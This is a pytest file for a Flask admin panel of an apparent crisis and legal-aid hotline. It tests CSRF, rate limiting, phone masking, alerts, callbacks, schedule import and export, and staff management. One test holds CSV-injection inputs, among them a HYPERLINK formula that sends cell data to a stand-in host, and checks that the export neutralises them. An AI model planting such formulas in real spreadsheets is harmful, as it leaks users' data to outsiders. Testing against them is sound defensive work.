"""The sections at work, through the Flask test client (the browser tests walk the same pages)."""
from __future__ import annotations

import io
from datetime import datetime, timedelta

import pytest
from sqlalchemy import func, select

from tests.admin.conftest import PEOPLE, login

RESIDENT = "+996700111222"


@pytest.fixture
def place(db):
    from hotline.schedule.models import Place

    gulcho = Place(code="1101", name_ky="Гүлчө", name_ru="Гульча", name_latin="Gulcho",
                   aliases="Gulcha;Gulch8", oblast="osh", district="Alai", lat=40.3138, lon=73.44418)
    db.session.add(gulcho)
    db.session.commit()
    return gulcho.id


def _visit(db, place_id, days=1):
    from hotline.core.clock import local_to_utc, now_local
    from hotline.schedule.models import Visit

    day = (now_local() + timedelta(days=days)).date()
    visit = Visit(place_id=place_id, starts_at=local_to_utc(datetime.combine(day, datetime.min.time()) + timedelta(hours=10)),
                  ends_at=local_to_utc(datetime.combine(day, datetime.min.time()) + timedelta(hours=13)),
                  meeting_point="School", status="planned", revision=0, notified_revision=0)
    db.session.add(visit)
    db.session.commit()
    return visit.id


# --- security ---

def test_a_form_without_csrf_token_is_refused(app, staff):
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        client = app.test_client()
        response = login(client, "coordinator")
        assert response.status_code == 400  # no token: the login form itself is refused
        page = client.get("/admin/login").get_data(as_text=True)
        token = page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
        response = client.post("/admin/login", data={"phone": PEOPLE["coordinator"][1],
                                                     "password": "correct-horse-9", "csrf_token": token})
        assert response.status_code == 302
        assert client.post("/admin/simulator/sms", data={"phone": RESIDENT, "body": "HELP"}).status_code == 400
        assert client.post("/admin/logout").status_code == 400
    finally:
        app.config["WTF_CSRF_ENABLED"] = False


def test_login_is_rate_limited_per_phone_and_ip(app, staff):
    client = app.test_client()
    for _ in range(5):
        assert login(client, "coordinator", "wrong-password").status_code == 200
    blocked = login(client, "coordinator")  # even the right password, for 15 minutes
    assert blocked.status_code == 429
    assert client.get("/admin/").status_code == 302
    assert login(app.test_client(), "lawyer").status_code == 302  # another phone is not blocked


def test_rate_limit_falls_back_to_the_database_without_redis(app, db, staff, monkeypatch):
    from hotline.admin import ratelimit

    def no_redis():
        raise ConnectionError("redis down")

    monkeypatch.setattr(ratelimit, "_redis", no_redis)
    client = app.test_client()
    for _ in range(5):
        login(client, "social_worker", "wrong-password")
    assert login(client, "social_worker").status_code == 429


# --- dashboard, messages ---

def test_dashboard_shows_a_failed_message_masked(client_as, db):
    from hotline.messaging.models import OutboundMessage

    db.session.add(OutboundMessage(to_phone=RESIDENT, body="x", purpose="reminder", status="failed",
                                   error_code="30003", segments=2))
    db.session.commit()
    page = client_as("coordinator").get("/admin/").get_data(as_text=True)
    assert "30003" in page and "+996***22" in page and RESIDENT not in page
    messages = client_as("coordinator").get("/admin/messages").get_data(as_text=True)
    assert "+996***22" in messages and RESIDENT not in messages


def test_dashboard_banner_while_escalation_is_stalled(client_as, app):
    from hotline.alerts import beat_watch

    for role in ("coordinator", "social_worker"):
        assert 'id="escalation-stalled"' in client_as(role).get("/admin/").get_data(as_text=True)
    with app.app_context():
        beat_watch.record_pass()  # an escalation pass just ran
    assert 'id="escalation-stalled"' not in client_as("coordinator").get("/admin/").get_data(as_text=True)


# --- alerts ---

def test_alert_from_a_signed_sms_is_acknowledged_and_closed_on_behalf(client_as, twilio, db, staff):
    assert twilio.sms(RESIDENT, "SOS").status == 200
    from hotline.alerts.models import Alert

    alert = db.session.scalars(select(Alert)).one()
    coordinator = client_as("coordinator")
    assert alert.code in coordinator.get("/admin/").get_data(as_text=True)
    detail = coordinator.get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
    assert RESIDENT not in detail  # masked for anyone but the taker
    response = coordinator.post(f"/admin/alerts/{alert.id}/ack", data={"staff_id": staff["social_worker"]})
    assert response.status_code == 302
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    assert alert.status == "taken" and alert.taken_by_id == staff["social_worker"]
    worker_phone = PEOPLE["social_worker"][1]
    told = [m.body for m in _sms_to(db, worker_phone) if RESIDENT in m.body]
    assert len(told) == 1 and alert.code in told[0]  # taken on their behalf: the number by SMS
    page = coordinator.get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
    assert "<td>принята</td>" in page and RESIDENT not in page  # the timeline's "acknowledged", in Russian
    assert RESIDENT in client_as("social_worker").get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
    coordinator.post(f"/admin/alerts/{alert.id}/close", data={"staff_id": staff["social_worker"],
                                                              "outcome": "safe with relatives"})
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    assert alert.status == "closed" and alert.outcome == "safe with relatives"


def test_the_alert_answers_are_in_the_pages_language_not_the_members(client_as, twilio, db, staff):
    """A coordinator reading Uzbek acts for a worker who reads Kyrgyz: the page says it in Uzbek
    (the staff SMS texts are the worker's, in Kyrgyz)."""
    from hotline.alerts.models import Alert
    from hotline.staff.models import Staff

    db.session.get(Staff, staff["social_worker"]).language = "ky"
    db.session.commit()
    twilio.sms(RESIDENT, "SOS")
    alert = db.session.scalars(select(Alert)).one()
    coordinator = client_as("coordinator")
    coordinator.get("/admin/lang/uz")
    worker = {"staff_id": staff["social_worker"]}

    def flashed(action: str, data: dict) -> str:
        page = coordinator.post(f"/admin/alerts/{alert.id}/{action}", data=data, follow_redirects=True)
        return page.get_data(as_text=True)

    page = flashed("pass", worker)
    assert f"{alert.code} keyingi navbatga oʻtdi." in page and "кезекке" not in page
    assert f"{alert.code} yopildi." in flashed("close", {**worker, "outcome": "ok"})
    page = flashed("ack", worker)
    assert f"{alert.code} allaqachon yopilgan." in page and "жабык" not in page


def _sms_to(db, phone):
    from hotline.messaging.models import OutboundMessage

    return list(db.session.scalars(select(OutboundMessage).where(OutboundMessage.to_phone == phone)))


def test_the_alert_page_preselects_oneself_then_the_taker(client_as, twilio, db, staff):
    import re

    twilio.sms(RESIDENT, "SOS")
    from hotline.alerts.models import Alert

    alert = db.session.scalars(select(Alert)).one()
    coordinator = client_as("coordinator")

    def selected() -> set[str]:
        page = coordinator.get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
        return set(re.findall(r'<option selected value="(\d+)"|<option value="(\d+)" selected', page)[0]) - {""}

    assert selected() == {str(staff["coordinator"])}
    coordinator.post(f"/admin/alerts/{alert.id}/ack", data={"staff_id": staff["coordinator"]})
    db.session.rollback()
    assert alert.taken_by_id == staff["coordinator"]
    assert not [m for m in _sms_to(db, PEOPLE["coordinator"][1]) if RESIDENT in m.body]  # on screen
    # taken by someone else: the close form preselects that taker
    alert.taken_by_id = staff["social_worker"]
    db.session.commit()
    assert selected() == {str(staff["social_worker"])}


def test_a_social_worker_acts_only_for_themselves(client_as, twilio, db, staff):
    twilio.sms(RESIDENT, "SOS")
    from hotline.alerts.models import Alert

    alert = db.session.scalars(select(Alert)).one()
    response = client_as("social_worker").post(f"/admin/alerts/{alert.id}/ack",
                                               data={"staff_id": staff["coordinator"]})
    assert response.status_code == 400


# --- callbacks ---

def _callback(db):
    from hotline.callbacks import service
    from hotline.core.clock import now_utc

    request = service.file_request(RESIDENT, channel="sms", language="ru", now=now_utc())
    request.topic, request.safe_time = "family", "evening"
    db.session.commit()
    return request


def test_callback_assign_and_outcome(client_as, twilio, db, staff):

    request = _callback(db)
    coordinator = client_as("coordinator")
    assert request.reference in coordinator.get("/admin/callbacks").get_data(as_text=True)
    assert coordinator.post(f"/admin/callbacks/{request.id}/assign",
                            data={"lawyer_id": staff["lawyer"]}).status_code == 302
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    assert request.lawyer_id == staff["lawyer"] and request.status == "assigned"
    lawyer = client_as("lawyer")
    page = lawyer.get("/admin/callbacks").get_data(as_text=True)
    assert request.reference in page and RESIDENT in page  # the lawyer must ring it
    assert RESIDENT not in coordinator.get("/admin/callbacks").get_data(as_text=True)
    assert lawyer.post(f"/admin/callbacks/{request.id}/outcome", data={"outcome": "done"}).status_code == 302
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    assert request.status == "done"


def test_a_second_no_answer_before_the_safe_window_is_not_counted(client_as, twilio, db, staff):
    request = _callback(db)
    request.lawyer_id, request.status = staff["lawyer"], "assigned"
    db.session.commit()
    lawyer = client_as("lawyer")
    lawyer.post(f"/admin/callbacks/{request.id}/outcome", data={"outcome": "noanswer"})
    response = lawyer.post(f"/admin/callbacks/{request.id}/outcome", data={"outcome": "noanswer"},
                           follow_redirects=True)
    assert "Рано" in response.get_data(as_text=True)
    db.session.rollback()
    assert request.attempts == 1 and request.status == "assigned"


def test_a_lawyer_cannot_close_another_lawyers_callback(client_as, twilio, db, staff):
    from hotline.staff.service import add_staff

    other = add_staff("Other lawyer", "+996998100006", "lawyer", "naryn")
    request = _callback(db)
    request.lawyer_id, request.status = other.id, "assigned"
    db.session.commit()
    lawyer = client_as("lawyer")
    assert request.reference not in lawyer.get("/admin/callbacks").get_data(as_text=True)
    assert lawyer.post(f"/admin/callbacks/{request.id}/outcome", data={"outcome": "done"}).status_code == 403


# --- schedule ---

def test_schedule_import_with_line_numbered_errors_then_export(client_as, db, place):
    from hotline.core.clock import now_local

    client = client_as("coordinator")
    day = (now_local() + timedelta(days=10)).date().isoformat()
    bad = f"place_code,date,start,end,meeting_point\n1101,{day},10:00,12:00,School\n9999,{day},10:00,12:00,X\n1101,2030-13-01,10:00,12:00,X\n"
    response = client.post("/admin/schedule/import", data={"file": (io.BytesIO(bad.encode()), "s.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "строка 3" in page and "строка 4" in page  # "line 3", in Russian
    from hotline.schedule.models import Visit

    assert db.session.scalars(select(Visit)).all() == []  # all or nothing
    good = f"place_code,date,start,end,meeting_point\n1101,{day},10:00,12:00,School\n"
    response = client.post("/admin/schedule/import", data={"file": (io.BytesIO(good.encode()), "s.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    db.session.rollback()
    assert len(db.session.scalars(select(Visit)).all()) == 1
    exported = client.get("/admin/schedule/export.csv").get_data(as_text=True)
    assert f"1101,{day},10:00,12:00,School" in exported


@pytest.mark.parametrize("point", ['=HYPERLINK("http://x.example/?"&A1,"Мектеп")', "+7 школа", "-1+2", "@SUM(A1)"])
def test_the_export_neutralises_cells_a_spreadsheet_would_run(client_as, db, place, point):
    import csv

    from hotline.core.clock import now_local

    client = client_as("coordinator")
    day = (now_local() + timedelta(days=10)).date().isoformat()
    upload = io.StringIO()
    csv.writer(upload).writerows([["place_code", "date", "start", "end", "meeting_point"],
                                  ["1101", day, "10:00", "12:00", point]])
    assert client.post("/admin/schedule/import", data={"file": (io.BytesIO(upload.getvalue().encode()), "s.csv")},
                       content_type="multipart/form-data").status_code == 302
    rows = list(csv.reader(io.StringIO(client.get("/admin/schedule/export.csv").get_data(as_text=True))))
    assert rows[1] == ["1101", day, "10:00", "12:00", "'" + point]  # read as text, shown as typed


def test_an_upload_that_is_not_utf8_names_the_line_not_a_temporary_file(client_as, db, place):
    client = client_as("coordinator")
    data = "place_code,date,start,end,meeting_point\n1101,2030-01-10,10:00,12:00,Мектеп\n".encode("cp1251")
    response = client.post("/admin/schedule/import", data={"file": (io.BytesIO(data), "s.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "строка 2: текст не в UTF-8" in page and "/tmp" not in page


def test_a_second_visit_at_the_same_place_and_start_is_refused_plainly(client_as, db, place):
    from hotline.core.clock import now_local
    from hotline.schedule.models import Visit

    client = client_as("coordinator")
    form = {"place_id": place, "date": (now_local() + timedelta(days=3)).date().isoformat(),
            "start": "09:00", "end": "12:00", "meeting_point": "Aiyl okmotu"}
    assert client.post("/admin/schedule/new", data=form).status_code == 302
    again = client.post("/admin/schedule/new", data={**form, "end": "13:00"})
    assert again.status_code == 200 and "уже есть выезд" in again.get_data(as_text=True)
    db.session.rollback()
    visits = db.session.scalars(select(Visit)).all()
    assert len(visits) == 1 and visits[0].meeting_point == "Aiyl okmotu"


def test_schedule_pages_and_new_visit(client_as, db, place):
    from hotline.core.clock import now_local

    client = client_as("coordinator")
    day = (now_local() + timedelta(days=3)).date().isoformat()
    response = client.post("/admin/schedule/new", data={"place_id": place, "date": day, "start": "09:00",
                                                        "end": "12:00", "meeting_point": "Aiyl okmotu"})
    assert response.status_code == 302
    for view in ("date", "district"):
        page = client.get(f"/admin/schedule?view={view}").get_data(as_text=True)
        assert "Гульча" in page and ("Aiyl okmotu" in page or view == "district")
    assert "Gulch8" in client.get("/admin/places").get_data(as_text=True)


def test_delay_shows_audience_and_cost_before_sending(client_as, db, place):
    from hotline.residents.models import Resident
    from hotline.schedule.models import Subscription, Visit

    visit_id = _visit(db, place)
    for phone, lang in (("+996700111001", "ky"), ("+996700111002", "ru"), ("+996700111003", "uz")):
        resident = Resident(phone=phone, language=lang)
        db.session.add(resident)
        db.session.flush()
        db.session.add(Subscription(resident_id=resident.id, place_id=place))
    opted_out = Resident(phone="+996700111004", language="ru", opted_out=True)
    db.session.add(opted_out)
    db.session.flush()
    db.session.add(Subscription(resident_id=opted_out.id, place_id=place))
    db.session.commit()
    client = client_as("coordinator")
    preview = client.post(f"/admin/schedule/{visit_id}/change", data={"kind": "delayed", "minutes": "45"})
    page = preview.get_data(as_text=True)
    assert 'id="notice-preview"' in page and " 3 " in page  # 3 people (the opted-out one is not counted)
    db.session.rollback()
    assert db.session.get(Visit, visit_id).status == "planned"  # nothing changed yet
    client.post(f"/admin/schedule/{visit_id}/change", data={"kind": "delayed", "minutes": "45", "confirm": "yes"})
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    visit = db.session.get(Visit, visit_id)
    assert visit.status == "delayed" and visit.revision == 1


def test_the_preview_shows_the_notice_as_sent_within_its_budget(app, db, place):
    """A 120-character Cyrillic meeting point: the preview is shortened exactly as the notice is."""
    from hotline.admin.views.schedule import _Proposed, notice_preview
    from hotline.messaging.segments import count_segments
    from hotline.schedule.models import Visit
    from ivr_flows import texts

    visit = db.session.get(Visit, _visit(db, place))
    visit.meeting_point = ("Айыл өкмөтүнүн имаратынын алдындагы чоң аянт, мектептин жанында, " * 2)[:120]
    db.session.commit()
    proposed = _Proposed(visit, visit.starts_at + timedelta(minutes=45), visit.ends_at + timedelta(minutes=45),
                         visit.meeting_point)
    with app.test_request_context():
        preview = notice_preview(visit, "delayed", proposed)
    budget = texts.lookup("bus.delayed", "sms")[1].max_segments
    for lang, sample in preview.samples.items():
        assert count_segments(sample) <= budget, (lang, sample)
        assert "..." in sample  # shortened, not left to overflow


def test_cancel_through_the_service(client_as, db, place):
    from hotline.schedule.models import Visit

    visit_id = _visit(db, place)
    client = client_as("coordinator")
    client.post(f"/admin/schedule/{visit_id}/change", data={"kind": "cancelled", "confirm": "yes"})
    db.session.rollback()  # a new snapshot: the request wrote from its own session
    assert db.session.get(Visit, visit_id).status == "cancelled"


# --- staff, figures, prompts ---

def test_add_shift_and_who_is_on_duty(client_as, db, staff):
    from hotline.core.clock import now_local

    today = now_local().date()
    client = client_as("coordinator")
    response = client.post("/admin/staff", data={"staff_id": staff["social_worker"], "date": str(today - timedelta(days=1)),
                                                 "start": "00:00", "end_date": str(today + timedelta(days=1)),
                                                 "end": "23:00"})
    assert response.status_code == 302
    page = client.get("/admin/staff").get_data(as_text=True)
    duty = page.split('id="on-duty"')[1].split("</section>")[0]
    assert "Нурлан Social" in duty


def test_figures_draw_svg_charts(client_as, db, twilio, staff):
    twilio.sms(RESIDENT, "HELP")
    page = client_as("coordinator").get("/admin/figures").get_data(as_text=True)
    assert "<svg" in page and "<rect" in page


def test_prompt_upload_is_validated_prepared_and_played_back(client_as, app, db):
    """An uploaded WAV becomes a human recording in the database: trimmed, 8 kHz, and it wins."""
    import numpy as np

    from hotline.prompts import store
    from hotline.prompts.audio import encode_wav

    client = client_as("coordinator")
    rate = 16000  # a second of tone between two of silence, at another rate than the phone's
    tone = 0.3 * np.sin(np.arange(rate) * 2 * np.pi * 300 / rate)
    wav = encode_wav(np.concatenate([np.zeros(rate), tone, np.zeros(rate)]), rate)
    key = "text|voice.main_menu"
    fake = client.post("/admin/prompts", data={"key": key, "lang": "ky",
                                               "file": (io.BytesIO(b"MZ not audio"), "x.wav")},
                       content_type="multipart/form-data")
    assert fake.status_code == 400
    wrong = client.post("/admin/prompts", data={"key": key, "lang": "ky",
                                                "file": (io.BytesIO(wav), "x.exe")}, content_type="multipart/form-data")
    assert wrong.status_code == 400
    good = client.post("/admin/prompts", data={"key": key, "lang": "ky",
                                               "file": (io.BytesIO(wav), "menu.wav")}, content_type="multipart/form-data")
    assert good.status_code == 302
    store.forget()
    with app.app_context():
        found = store.best("ky", "text", "voice.main_menu")
    assert found.source == "human" and 1000 <= found.duration_ms <= 1100  # the silence trimmed
    page = client.get("/admin/prompts").get_data(as_text=True)
    assert f"/media/recordings/{found.id}.wav" in page, [line for line in page.splitlines() if "/media/" in line][:3]
    played = client.get(f"/media/recordings/{found.id}.wav")
    assert played.status_code == 200 and played.data[:4] == b"RIFF" and len(played.data) < len(wav) / 3



def test_an_uploaded_mp3_is_decoded_trimmed_and_kept_as_8khz_wav(client_as, app, db):
    """An MP3 (stereo, 22,050 Hz, a second of tone between two of silence) is trimmed and
    normalised like a WAV, not stored as it came."""
    import lameenc
    import numpy as np

    from hotline.prompts import store
    from hotline.prompts.audio import TARGET_RMS_DBFS, decode_wav

    rate = 22050
    tone = 0.05 * np.sin(np.arange(rate) * 2 * np.pi * 300 / rate)  # quiet: normalising raises it
    mono = np.concatenate([np.zeros(2 * rate), tone, np.zeros(2 * rate)])
    encoder = lameenc.Encoder()
    encoder.set_bit_rate(64)
    encoder.set_in_sample_rate(rate)
    encoder.set_channels(2)
    pcm = np.round(np.repeat(mono, 2) * 32767).astype("<i2").tobytes()
    mp3 = bytes(encoder.encode(pcm) + encoder.flush())
    client = client_as("coordinator")
    broken = client.post("/admin/prompts", data={"key": "text|voice.main_menu", "lang": "ky",
                                                 "file": (io.BytesIO(b"ID3\x03\x00not frames" + bytes(64)), "x.mp3")},
                         content_type="multipart/form-data")
    assert broken.status_code == 400 and "MP3" in broken.get_data(as_text=True)
    good = client.post("/admin/prompts", data={"key": "text|voice.main_menu", "lang": "ky",
                                               "file": (io.BytesIO(mp3), "menu.mp3")}, content_type="multipart/form-data")
    assert good.status_code == 302
    store.forget()
    with app.app_context():
        found = store.best("ky", "text", "voice.main_menu")
    assert (found.source, found.ext) == ("human", "wav") and 1000 <= found.duration_ms <= 1150
    played = client.get(f"/media/recordings/{found.id}.wav")
    samples, played_rate = decode_wav(played.data)
    rms_db = 20 * np.log10(np.sqrt(np.mean(samples ** 2)))
    assert played_rate == 8000 and abs(rms_db - TARGET_RMS_DBFS) < 1.5


# --- simulator ---

def test_simulator_sms_goes_through_the_signed_webhook(client_as, db):
    from hotline.messaging.models import InboundMessage

    client = client_as("coordinator")
    assert client.post("/admin/simulator/sms", data={"phone": "0700 111 222", "body": "HELP"}).status_code == 302
    db.session.rollback()
    assert db.session.scalars(select(InboundMessage)).one().from_phone == RESIDENT
    page = client.get("/admin/simulator").get_data(as_text=True)
    assert 'class="bubble in" translate="no">HELP' in page and page.count('class="bubble out"') >= 1


def test_simulator_call_follows_the_gather_actions(client_as, db):
    client = client_as("coordinator")
    client.post("/admin/simulator/call", data={"phone": RESIDENT})
    page = client.get("/admin/simulator").get_data(as_text=True)
    assert 'id="keypad"' in page
    first = page.count('class="bubble out"')
    client.post("/admin/simulator/press", data={"digits": "2"})  # Russian
    page = client.get("/admin/simulator").get_data(as_text=True)
    assert "☎ 2" in page and page.count('class="bubble out"') > first
    client.post("/admin/simulator/hangup")
    assert 'id="start-call"' in client.get("/admin/simulator").get_data(as_text=True)


def test_simulator_signs_like_twilio(app):
    """The signature the simulator computes is the one the webhook checks."""
    from hotline.messaging.signatures import sign
    from tests.conftest import TEST_AUTH_TOKEN

    url = "http://127.0.0.1:1/twilio/sms"
    with app.test_request_context("/admin/simulator"):
        assert sign(url, {"Body": "x"}, app.config["SETTINGS"].twilio_auth_token) == \
            sign(url, {"Body": "x"}, TEST_AUTH_TOKEN)


def test_simulator_without_a_public_url_walks_the_menus(client_as, app, monkeypatch):
    """Development has no HOTLINE_PUBLIC_URL: the check uses the request's own URL with
    its raw query (`node=menu%3Alanguage`), as Twilio would sign it."""
    from dataclasses import replace

    monkeypatch.setitem(app.config, "SETTINGS", replace(app.config["SETTINGS"], public_url=None))
    client = client_as("coordinator")
    client.post("/admin/simulator/call", data={"phone": RESIDENT})
    client.post("/admin/simulator/press", data={"digits": "2"})
    page = client.get("/admin/simulator").get_data(as_text=True)
    assert "HTTP 403" not in page and 'id="keypad"' in page


# --- roster: add, refuse, deactivate ---

NEW_PHONE = "+996700999111"


def _staff_by_phone(db, phone):
    from hotline.staff.models import Staff

    db.session.rollback()  # end the test's read transaction: see the request's commit
    return db.session.scalar(select(Staff).where(Staff.phone == phone))


def test_coordinator_adds_a_staff_member(client_as, db):
    client = client_as("coordinator")
    response = client.post("/admin/staff/add", data={
        "name": "Жылдыз Worker", "phone": "0700 999 111", "role": "social_worker", "oblast": "naryn",
        "district": "At-Bashy", "password": "long-enough-1", "on_bus_crew": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    member = _staff_by_phone(db, NEW_PHONE)
    assert member is not None
    assert (member.name, member.role, member.oblast, member.district) == ("Жылдыз Worker", "social_worker",
                                                                           "naryn", "At-Bashy")
    assert member.on_bus_crew and member.active and member.password_hash
    assert "Жылдыз Worker" in client.get("/admin/staff").get_data(as_text=True)
    # no password, no crew, no oblast: still fine
    assert client.post("/admin/staff/add", data={"name": "Lawyer Two", "phone": "+996700999112",
                                                 "role": "lawyer", "oblast": ""}).status_code == 302
    two = _staff_by_phone(db, "+996700999112")
    assert two.oblast is None and two.password_hash is None and not two.on_bus_crew


@pytest.mark.parametrize("page_lang, phone, said", [
    ("ru", "12345", "Неверный номер телефона: 12***45"),
    ("ky", "12345", "Телефон номери туура эмес: 12***45"),
    ("uz", "call me", "Bu telefon raqami emas: ***"),
])
def test_bad_phone_shows_the_error_in_the_pages_language_and_writes_nothing(client_as, db, page_lang, phone,
                                                                            said):
    from hotline.staff.models import Staff

    client = client_as("coordinator")
    client.get(f"/admin/lang/{page_lang}")
    before = db.session.scalar(select(func.count()).select_from(Staff))
    response = client.post("/admin/staff/add", data={"name": "Nobody", "phone": phone, "role": "lawyer"})
    assert response.status_code == 400
    assert said in response.get_data(as_text=True)  # hotline.core.phones' message, masked, translated
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.scalar(select(func.count()).select_from(Staff)) == before


def test_the_staff_services_other_checks_come_through_translated(client_as, db):
    client = client_as("coordinator")
    response = client.post("/admin/staff/add", data={"name": "Short", "phone": NEW_PHONE, "role": "lawyer",
                                                     "password": "short"})
    assert response.status_code == 400 and "не короче 8 символов" in response.get_data(as_text=True)  # "at least 8 characters"
    assert _staff_by_phone(db, NEW_PHONE) is None


@pytest.mark.parametrize("page_lang, said", [
    ("ru", "Не длиннее 120 символов."),  # the catalog's plural form (120: "many")
    ("ky", "Белгилердин эң көп саны: 120."),
    ("uz", "Eng koʻpi bilan 120 ta belgi."),
])
def test_wtforms_messages_with_values_are_in_the_pages_language(client_as, db, page_lang, said):
    client = client_as("coordinator")
    client.get(f"/admin/lang/{page_lang}")
    response = client.post("/admin/staff/add", data={"name": "Ж" * 121, "phone": NEW_PHONE, "role": "lawyer"})
    assert response.status_code == 400 and said in response.get_data(as_text=True)
    assert _staff_by_phone(db, NEW_PHONE) is None


def test_duplicate_phone_is_refused(client_as, db):
    from hotline.staff.models import Staff

    client = client_as("coordinator")
    response = client.post("/admin/staff/add", data={"name": "Twin", "phone": PEOPLE["lawyer"][1],
                                                     "role": "lawyer"})
    assert response.status_code == 400
    assert "Сотрудник с этим номером уже есть." in response.get_data(as_text=True)
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.scalar(select(func.count()).select_from(Staff)
                             .where(Staff.phone == PEOPLE["lawyer"][1])) == 1


def test_deactivate_and_reactivate(client_as, db, staff, app):
    from hotline.staff.models import Staff

    client = client_as("coordinator")
    assert client.post(f"/admin/staff/{staff['lawyer']}/active", data={"active": "0"}).status_code == 302
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.get(Staff, staff["lawyer"]).active is False
    assert login(app.test_client(), "lawyer").status_code == 200  # can no longer log in
    assert client.post(f"/admin/staff/{staff['lawyer']}/active", data={"active": "1"}).status_code == 302
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.get(Staff, staff["lawyer"]).active is True
    # a coordinator cannot lock themself out
    client.post(f"/admin/staff/{staff['coordinator']}/active", data={"active": "0"})
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.get(Staff, staff["coordinator"]).active is True


def test_a_coordinator_marks_and_unmarks_a_voice_recorder(client_as, db, staff):
    from hotline.staff.models import Staff

    client = client_as("coordinator")
    assert client.post(f"/admin/staff/{staff['lawyer']}/recorder", data={"recorder": "1"}).status_code == 302
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.get(Staff, staff["lawyer"]).voice_recorder is True
    page = client.get("/admin/staff").get_data(as_text=True)
    row = page.split(f'id="staff-{staff["lawyer"]}"')[1].split("</tr>")[0]
    assert 'name="recorder" value="0"' in row  # the toggle now offers to unmark
    assert client.post(f"/admin/staff/{staff['lawyer']}/recorder", data={"recorder": "0"}).status_code == 302
    db.session.rollback()
    assert db.session.get(Staff, staff["lawyer"]).voice_recorder is False
    assert client.post("/admin/staff/add", data={"name": "Recorder", "phone": NEW_PHONE, "role": "social_worker",
                                                 "voice_recorder": "y"}).status_code == 302
    assert _staff_by_phone(db, NEW_PHONE).voice_recorder is True


# --- places: aliases and coordinates ---

def _place(db, place_id):
    from hotline.schedule.models import Place

    db.session.rollback()  # end the test's read transaction: see the request's commit
    return db.session.get(Place, place_id)


def test_edit_place_aliases_and_coordinates(client_as, db, place):
    client = client_as("coordinator")
    page = client.get(f"/admin/places/{place}/edit").get_data(as_text=True)
    assert "Gulch8" in page and "40.3138" in page
    response = client.post(f"/admin/places/{place}/edit", data={
        "aliases": "Gulcha\n Gulcho-2 ; Gulcha\n\n", "lat": "40,32", "lon": "73.45"})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    row = _place(db, place)
    assert (row.aliases, row.lat, row.lon) == ("Gulcha;Gulcho-2", 40.32, 73.45)
    assert "Gulcho-2" in row.names()
    # both empty removes the coordinates
    assert client.post(f"/admin/places/{place}/edit", data={"aliases": "", "lat": "", "lon": ""}).status_code == 302
    row = _place(db, place)
    assert (row.aliases, row.lat, row.lon) == ("", None, None)


@pytest.mark.parametrize("lat, lon, message", [
    ("40.3", "", "or neither"),
    ("", "73.4", "or neither"),
    ("abc", "73.4", "not a number"),
    ("73.44", "40.31", "between"),  # swapped
    ("95", "73.4", "between"),
    ("nan", "73.4", "between"),
])
def test_bad_coordinates_are_refused(client_as, db, place, lat, lon, message):
    client = client_as("coordinator")
    client.get("/admin/lang/en")
    response = client.post(f"/admin/places/{place}/edit", data={"aliases": "New", "lat": lat, "lon": lon})
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    row = _place(db, place)
    assert (row.aliases, row.lat, row.lon) == ("Gulcha;Gulch8", 40.3138, 73.44418)


@pytest.mark.parametrize("role", ["social_worker", "lawyer"])
def test_roster_and_place_edit_are_for_coordinators_only(client_as, db, place, staff, role):
    from hotline.staff.models import Staff

    client = client_as(role)
    assert client.post("/admin/staff/add", data={"name": "X", "phone": NEW_PHONE, "role": "coordinator"}
                       ).status_code == 403
    assert client.post(f"/admin/staff/{staff['coordinator']}/active", data={"active": "0"}).status_code == 403
    assert client.post(f"/admin/staff/{staff['lawyer']}/recorder", data={"recorder": "1"}).status_code == 403
    db.session.rollback()  # end the test's read transaction: see the request's commit
    assert db.session.get(Staff, staff["lawyer"]).voice_recorder is False
    assert client.get(f"/admin/places/{place}/edit").status_code == 403
    assert client.post(f"/admin/places/{place}/edit", data={"aliases": "", "lat": "", "lon": ""}
                       ).status_code == 403
    assert _staff_by_phone(db, NEW_PHONE) is None
    assert db.session.get(Staff, staff["coordinator"]).active is True
    assert _place(db, place).aliases == "Gulcha;Gulch8"


def test_a_change_and_an_import_ask_a_worker_to_send_the_notices_at_once(app, client_as, db, place):
    """Not only the beat job a minute later: the schedule's tick is on the `bulk` queue now."""
    import json

    from hotline.core.clock import now_local

    celery = app.extensions["celery"]

    def ticks_queued() -> int:
        with celery.connection_for_write() as connection:
            raw = connection.default_channel.client.lrange("bulk", 0, -1)
        return sum(json.loads(m)["headers"]["task"] == "tasks.schedule.tick" for m in raw)

    with celery.connection_for_write() as connection:
        connection.default_channel.client.delete("bulk")
    client = client_as("coordinator")
    client.post(f"/admin/schedule/{_visit(db, place)}/change", data={"kind": "cancelled", "confirm": "yes"})
    assert ticks_queued() == 1
    day = (now_local() + timedelta(days=12)).date().isoformat()
    csv = f"place_code,date,start,end,meeting_point\n1101,{day},10:00,12:00,School\n"
    client.post("/admin/schedule/import", data={"file": (io.BytesIO(csv.encode()), "s.csv")},
                content_type="multipart/form-data")
    assert ticks_queued() == 2
